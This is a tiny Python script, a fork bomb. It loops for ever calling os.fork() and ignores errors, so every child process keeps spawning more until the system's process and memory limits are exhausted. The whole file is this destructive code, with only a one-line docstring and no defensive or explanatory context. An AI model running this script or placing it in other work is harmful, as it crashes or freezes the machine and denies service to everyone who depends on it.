"""Forks for ever; each copy does the same."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
